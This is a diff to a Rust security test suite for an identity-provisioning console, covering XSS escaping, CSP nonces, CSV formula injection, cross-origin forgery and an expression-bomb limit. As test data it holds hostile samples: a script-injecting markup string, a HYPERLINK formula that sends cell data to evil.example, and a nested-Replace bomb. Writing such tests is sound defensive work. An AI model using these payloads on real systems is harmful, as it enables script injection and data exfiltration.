@@ -10,24 +10,10 @@ use reqwest::header;
 use serde_json::{Value, json};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 
-use super::harness::Console;
+use super::harness::{Console, PASSWORD};
 
-const PASSWORD: &str = "a long enough password";
 /// Markup an attacker stores in a name, hoping it reaches a page unescaped.
 const MARKUP: &str = "</title><script src=//127.0.0.1:9/x.js></script><img src=x onerror=alert(1)>";
-
-async fn signed_in(console: &Console, upn: &str, role: &str) -> reqwest::Client {
-    let out = console.admin_create(upn, role, PASSWORD);
-    assert!(out.status.success(), "{out:?}");
-    let browser = console.browser();
-    let answer = console.sign_in(&browser, upn, PASSWORD).await;
-    assert!(
-        answer.status().is_success() || answer.status().is_redirection(),
-        "{}",
-        answer.status()
-    );
-    browser
-}
 
 /// A client that sends the given API token.
 fn api(console: &Console, upn: &str) -> reqwest::Client {
@@ -59,17 +45,10 @@ fn no_panic_in(console: &Console) {
 #[tokio::test]
 async fn a_stored_name_with_markup_stays_text_and_scripts_need_the_responses_nonce() {
     let console = Console::start();
-    let browser = signed_in(&console, "admin@contoso.com", "Global Administrator").await;
-    let created: Value = api(&console, "admin@contoso.com")
-        .post(console.url("/api/v1/applications"))
-        .json(&json!({ "template": "custom-scim", "displayName": MARKUP }))
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
-    let id = created["id"].as_str().expect("created").to_owned();
+    let browser = console
+        .signed_in("admin@contoso.com", "Global Administrator")
+        .await;
+    let (id, _) = application(&console, &api(&console, "admin@contoso.com"), MARKUP).await;
 
     for path in [format!("/applications/{id}"), "/applications".to_owned()] {
         let page = browser.get(console.url(&path)).send().await.unwrap();
@@ -120,31 +99,30 @@ async fn a_stored_name_with_markup_stays_text_and_scripts_need_the_responses_non
             "{path}: every script carries the nonce"
         );
     }
-    let other: Value = browser
-        .get(console.url("/applications"))
-        .send()
-        .await
-        .unwrap()
-        .headers()
-        .get(header::CONTENT_SECURITY_POLICY)
-        .map(|v| Value::String(v.to_str().unwrap().to_owned()))
-        .unwrap();
-    let again: Value = browser
-        .get(console.url("/applications"))
-        .send()
-        .await
-        .unwrap()
-        .headers()
-        .get(header::CONTENT_SECURITY_POLICY)
-        .map(|v| Value::String(v.to_str().unwrap().to_owned()))
-        .unwrap();
-    assert_ne!(other, again, "a fresh nonce for every response");
+    let policy = || async {
+        browser
+            .get(console.url("/applications"))
+            .send()
+            .await
+            .unwrap()
+            .headers()
+            .get(header::CONTENT_SECURITY_POLICY)
+            .unwrap()
+            .clone()
+    };
+    assert_ne!(
+        policy().await,
+        policy().await,
+        "a fresh nonce for every response"
+    );
 }
 
 #[tokio::test]
 async fn exported_cells_cannot_run_as_formulas_and_import_back_exactly() {
     let console = Console::start();
-    let browser = signed_in(&console, "admin@contoso.com", "Global Administrator").await;
+    let browser = console
+        .signed_in("admin@contoso.com", "Global Administrator")
+        .await;
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
     let created = api(&console, "admin@contoso.com")
         .post(console.url("/scim/v2/Users"))
@@ -250,7 +228,9 @@ async fn sign_in_returns_only_to_same_origin_paths() {
 #[tokio::test]
 async fn a_bearer_header_does_not_open_cookie_routes_to_other_origins() {
     let console = Console::start();
-    let browser = signed_in(&console, "admin@contoso.com", "Global Administrator").await;
+    let browser = console
+        .signed_in("admin@contoso.com", "Global Administrator")
+        .await;
     let forged = browser
         .post(console.url("/api/applications/create"))
         .header(header::ORIGIN, "http://evil.example")
@@ -410,7 +390,9 @@ async fn bodies_over_a_routes_limit_are_refused_before_they_are_read() {
 async fn downloads_neither_stall_the_database_nor_break_under_gzip() {
     use engine::sync::log::generator::Spec;
     let console = Console::start();
-    let admin = signed_in(&console, "admin@contoso.com", "Global Administrator").await;
+    let admin = console
+        .signed_in("admin@contoso.com", "Global Administrator")
+        .await;
     let created = admin
         .post(console.url("/api/applications/create"))
         .form(&[("template", "custom-scim"), ("display_name", "Payroll")])
@@ -449,12 +431,9 @@ async fn downloads_neither_stall_the_database_nor_break_under_gzip() {
     // Downloads left unread by several accounts hold their own connections, never the probes'.
     let mut held = Vec::new();
     for n in 0..4 {
-        let reader = signed_in(
-            &console,
-            &format!("reader{n}@contoso.com"),
-            "Reports Reader",
-        )
-        .await;
+        let reader = console
+            .signed_in(&format!("reader{n}@contoso.com"), "Reports Reader")
+            .await;
         for _ in 0..2 {
             let answer = reader
                 .get(console.url("/provisioning-logs/download.json"))
@@ -514,18 +493,19 @@ async fn answering(status: u16, body: &'static str) -> String {
     format!("http://{address}/scim/v2")
 }
 
-async fn test_connection(console: &Console, client: &reqwest::Client, tenant_url: &str) -> Value {
+/// A "Create your own application" made over the REST API: its id and provisioning configuration.
+async fn application(console: &Console, client: &reqwest::Client, name: &str) -> (String, Value) {
     let created: Value = client
         .post(console.url("/api/v1/applications"))
-        .json(&json!({ "template": "custom-scim", "displayName": "Probe" }))
+        .json(&json!({ "template": "custom-scim", "displayName": name }))
         .send()
         .await
         .unwrap()
         .json()
         .await
         .unwrap();
-    let id = created["id"].as_str().unwrap();
-    let config: Value = client
+    let id = created["id"].as_str().expect("created").to_owned();
+    let config = client
         .get(console.url(&format!("/api/v1/applications/{id}/provisioning")))
         .send()
         .await
@@ -533,6 +513,11 @@ async fn test_connection(console: &Console, client: &reqwest::Client, tenant_url
         .json()
         .await
         .unwrap();
+    (id, config)
+}
+
+async fn test_connection(console: &Console, client: &reqwest::Client, tenant_url: &str) -> Value {
+    let (id, config) = application(console, client, "Probe").await;
     let mut settings = config["settings"].clone();
     settings["scimBaseUrl"] = json!(tenant_url);
     let saved = client
@@ -592,7 +577,9 @@ async fn private_targets_are_refused_by_default_and_no_answer_body_is_repeated()
 async fn the_data_directory_is_the_owners_alone_and_sessions_are_stored_hashed() {
     use std::os::unix::fs::PermissionsExt;
     let console = Console::start();
-    let browser = signed_in(&console, "admin@contoso.com", "Global Administrator").await;
+    let browser = console
+        .signed_in("admin@contoso.com", "Global Administrator")
+        .await;
     let mode = |name: &str| {
         std::fs::metadata(console.data_dir.path().join(name))
             .unwrap()
@@ -646,12 +633,16 @@ async fn the_data_directory_is_the_owners_alone_and_sessions_are_stored_hashed()
 #[tokio::test]
 async fn a_new_password_or_role_ends_the_accounts_other_sessions() {
     let console = Console::start();
-    let admin = signed_in(&console, "admin@contoso.com", "Global Administrator").await;
+    let admin = console
+        .signed_in("admin@contoso.com", "Global Administrator")
+        .await;
     let elsewhere = console.browser();
     console
         .sign_in(&elsewhere, "admin@contoso.com", PASSWORD)
         .await;
-    let ops = signed_in(&console, "ops@contoso.com", "Global Administrator").await;
+    let ops = console
+        .signed_in("ops@contoso.com", "Global Administrator")
+        .await;
     let engine = console.engine().await;
     let id_of = |upn: &'static str| {
         let engine = engine.clone();
@@ -707,7 +698,9 @@ async fn a_new_password_or_role_ends_the_accounts_other_sessions() {
 #[tokio::test]
 async fn a_new_smtp_host_forgets_the_smtp_password() {
     let console = Console::start();
-    let admin = signed_in(&console, "admin@contoso.com", "Global Administrator").await;
+    let admin = console
+        .signed_in("admin@contoso.com", "Global Administrator")
+        .await;
     let save = |host: &'static str, password: &'static str| {
         admin
             .post(console.url("/api/settings/email/save"))
@@ -756,4 +749,60 @@ async fn a_new_smtp_host_forgets_the_smtp_password() {
             .is_success()
     );
     assert!(!has_password().await, "a new host forgets it");
+}
+
+/// Nine nested `Replace`s, each turning every "a" of the one inside into ten (330 characters).
+fn expression_bomb() -> String {
+    let mut text = "[mail]".to_owned();
+    for _ in 0..9 {
+        text = format!("Replace({text}, \"a\", , , \"aaaaaaaaaa\", , )");
+    }
+    text
+}
+
+#[tokio::test]
+async fn an_expression_that_could_explode_is_refused_in_the_editor_and_at_save() {
+    let console = Console::start();
+    let browser = console
+        .signed_in("admin@contoso.com", "Global Administrator")
+        .await;
+    let bomb = expression_bomb();
+
+    let checked: Value = browser
+        .post(console.url("/api/provisioning/expression/check"))
+        .form(&[("text", bomb.as_str()), ("object", "users")])
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let reason = checked.as_str().expect("the editor refuses it");
+    assert!(reason.contains("can produce up to"), "{reason}");
+    assert!(reason.contains("65,536"), "{reason}");
+
+    let client = api(&console, "admin@contoso.com");
+    let (id, config) = application(&console, &client, "Payroll").await;
+    let path = format!("/api/v1/applications/{id}/provisioning");
+    let mut settings = config["settings"].clone();
+    settings["users"]["mappings"]
+        .as_array_mut()
+        .unwrap()
+        .push(json!({ "mappingType": "Expression", "source": bomb, "target": "nickName" }));
+    let saved = client
+        .put(console.url(&path))
+        .json(&json!({ "version": config["version"], "settings": settings }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(saved.status(), StatusCode::BAD_REQUEST);
+    let error: Value = saved.json().await.unwrap();
+    assert!(
+        error["message"]
+            .as_str()
+            .unwrap()
+            .contains("can produce up to"),
+        "{error}"
+    );
+    healthy(&console).await;
 }
